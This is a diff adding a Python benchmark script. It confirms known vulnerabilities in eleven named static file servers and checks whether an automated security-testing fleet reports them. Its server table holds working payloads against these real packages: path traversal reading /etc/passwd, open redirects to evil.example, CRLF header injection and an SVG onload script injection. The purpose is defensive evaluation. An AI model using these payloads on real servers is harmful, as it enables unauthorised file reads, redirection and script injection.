@@ -1,0 +1,195 @@
+"""What the fleet finds in released servers of which somebody else found the defects.
+
+    make bench-known [ARGS="--only st,mcstatic --personas qa-security --keep DIR"]
+
+Each server (.ci/known) is started as its manual says, on a folder with a little content. A defect counts as
+known when one plain request shows it here, before the fleet looks: SERVERS has the request and what its answer
+must have. The shipped personas then look once, in a fresh state directory, with a bare profile. Items that are
+none of the known defects are listed for a person to judge. docs/bench/known.md has the results. Exit status 1
+when a server could not be looked at, or a known defect did not show.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import re
+import shlex
+import socket
+import sys
+import tempfile
+from collections.abc import Mapping, Sequence
+from contextlib import ExitStack
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import anyio
+
+from bench.findings.fleet_rounds import FinderOutcome
+from bench.released import Words, content, looked_at
+from fleet.config import ROOT
+from tests.platforms.served import Served, free_port
+
+PLACE = ROOT / ".known"
+BIN = PLACE / "node_modules" / ".bin"
+LONGEST_S = 5.0
+
+
+@dataclass(frozen=True, slots=True)
+class KnownDefect:
+    """One request, as it stands on its line, and what the answer has, status line and headers included;
+    `item` is what a title of the fleet has that reports it."""
+
+    name: str
+    path: str
+    shows: str
+    item: str
+
+
+def climbs(path: str) -> KnownDefect:
+    return KnownDefect("reads any file", path, r"(?m)^root:x:0:0", "/etc/passwd|climb|outside")
+
+
+def goes_elsewhere(path: str) -> KnownDefect:
+    return KnownDefect(
+        "sends a browser elsewhere", path, r"(?mi)^location: *//evil\.example", "redirect|leads to|elsewhere"
+    )
+
+
+UP = "/../../../../../../../../../.."
+ENCODED = UP.replace("..", "%2e%2e")
+ELSEWHERE = "//evil.example/%2e%2e"
+
+
+def node(name: str, words: str) -> Words:
+    """A command of an npm package, run in the folder with the files."""
+
+    def started(at: Path, port: int) -> list[str]:
+        line = words.format(port=port)
+        return ["/bin/sh", "-c", f"cd {shlex.quote(str(at / 'files'))} && exec {BIN / name} {line}"]
+
+    return started
+
+
+def copyparty(at: Path, port: int) -> list[str]:
+    words = ["-m", "copyparty", "-p", f"{port}", "-i", "127.0.0.1", "-v", f"{at}/files::r", "--no-thumb"]
+    return [str(PLACE / "venv" / "bin" / "python"), *words]
+
+
+SERVERS: Mapping[str, tuple[Words, Sequence[KnownDefect]]] = {
+    "angular-http-server": (node("angular-http-server", "-p {port}"), [climbs("//etc/passwd")]),
+    "copyparty": (
+        copyparty,
+        [
+            climbs("/.cpr/%2Fetc%2Fpasswd"),
+            KnownDefect("lets a caller add headers", "/?k304=y%0d%0aqa-in:1", "(?mi)^qa-in: ?1", "header"),
+        ],
+    ),
+    "crud-file-server": (node("crud-file-server", "-f . -p {port}"), [climbs(f"{ENCODED}/etc/passwd")]),
+    "file-static-server": (node("file-static-server", "-P {port} ."), [climbs(f"{UP}/etc/passwd")]),
+    "hekto": (
+        node("hekto", "serve --port {port}"),
+        [climbs(f"{UP}/etc/passwd"), goes_elsewhere("//evil.example/..")],
+    ),
+    "http-server": (node("http-server", "-p {port} ."), [goes_elsewhere(ELSEWHERE)]),
+    "localhost-now": (node("localhost", "{port}"), [climbs("/" + "....//" * 10 + "etc/passwd")]),
+    "mcstatic": (
+        node("mcstatic", "-p {port} ."),
+        [
+            climbs(f"{ENCODED}/etc/passwd"),
+            KnownDefect(
+                "writes a path as HTML", "/%3Csvg%20onload=qa()%3E", r"<svg onload=qa\(\)>", "program"
+            ),
+        ],
+    ),
+    "public": (node("public", ". {port}"), [climbs(f"{UP}/etc/passwd")]),
+    "st": (node("st", "-p {port} -d ."), [climbs(f"{ENCODED}/etc/passwd"), goes_elsewhere(ELSEWHERE)]),
+    "static-resource-server": (
+        node("static-resource-server", "-P {port}"),
+        [climbs(f"{UP}/etc/passwd")],
+    ),
+}
+
+
+def filled(at: Path) -> Path:
+    """Content, with a page that a server may show first."""
+    content(at)
+    links = "".join(f'<li><a href="note{number}.txt">note {number}</a></li>' for number in range(4))
+    page = '<!doctype html><html lang="en"><head><title>Moss</title></head><body><h1>Moss</h1>'
+    (at / "files" / "index.html").write_text(f"{page}<ul>{links}</ul></body></html>\n")
+    (at / "files" / "more").mkdir()
+    (at / "files" / "more" / "deep.txt").write_text("deep\n")
+    return at
+
+
+def answer(port: int, path: str) -> str:
+    """Of a GET with this path as it is, which no HTTP client would send."""
+    with socket.create_connection(("127.0.0.1", port), LONGEST_S) as line:
+        line.settimeout(LONGEST_S)
+        line.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode())
+        got = b""
+        while len(got) < 1 << 20 and (more := line.recv(65_536)):
+            got += more
+    return got.decode("utf-8", "replace").replace("\r", "")
+
+
+async def shown(program: Words, defects: Sequence[KnownDefect], folder: Path) -> list[str]:
+    """Names of the defects that show by hand."""
+    port = free_port()
+    async with Served(program(filled(folder / "by-hand"), port), port, folder / "by-hand.log"):
+        found = []
+        for one in defects:
+            got = await anyio.to_thread.run_sync(answer, port, one.path)
+            found += [one.name] if re.search(one.shows, got) else []
+        return found
+
+
+def told(outcome: FinderOutcome, defects: Sequence[KnownDefect], by_hand: Sequence[str]) -> dict[str, Any]:
+    """Of one server: each known defect with the items that report it, and all other items."""
+    titles = [one.title for one in outcome.items]
+    known = {one.name: [title for title in titles if re.search(one.item, title)] for one in defects}
+    taken = {title for some in known.values() for title in some}
+    unseen = [f"{one.name}: did not show by hand" for one in defects if one.name not in by_hand]
+    return {
+        "known": known,
+        "others": [title for title in titles if title not in taken],
+        "calls": outcome.calls,
+        "seconds": round(outcome.seconds, 1),
+        "troubles": [*outcome.troubles, *unseen],
+    }
+
+
+async def run(names: list[str], personas: tuple[str, ...], folder: Path) -> int:
+    """Looks at each in turn; prints what was found as JSON."""
+    said = {}
+    for name in names:
+        program, defects = SERVERS[name]
+        (folder / name).mkdir(parents=True, exist_ok=True)
+        by_hand = await shown(program, defects, folder / name)
+        outcome = await looked_at(name, program, folder / name, personas, filled)
+        said[name] = told(outcome, defects, by_hand)
+    print(json.dumps(said, indent=1))
+    every = [bool(items) for one in said.values() for items in one["known"].values()]
+    print(f"{sum(every)} of {len(every)} known defects found", file=sys.stderr)
+    return 1 if any(one["troubles"] for one in said.values()) else 0
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(
+        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
+    )
+    parser.add_argument("--only", default=",".join(SERVERS), help=f"of {', '.join(SERVERS)}")
+    parser.add_argument("--personas", default="qa-security,qa-ux")
+    parser.add_argument("--keep", type=Path, help="a folder for the servers' files and the runs' records")
+    options = parser.parse_args()
+    if wrong := sorted(set(options.only.split(",")) - set(SERVERS)):
+        parser.error(f"--only: {', '.join(wrong)} is not one of {', '.join(SERVERS)}")
+    with ExitStack() as stack:
+        folder = options.keep or stack.enter_context(tempfile.TemporaryDirectory(prefix="bench-known-"))
+        personas = tuple(options.personas.split(","))
+        return anyio.run(run, options.only.split(","), personas, Path(folder))
+
+
+if __name__ == "__main__":
+    sys.exit(main())
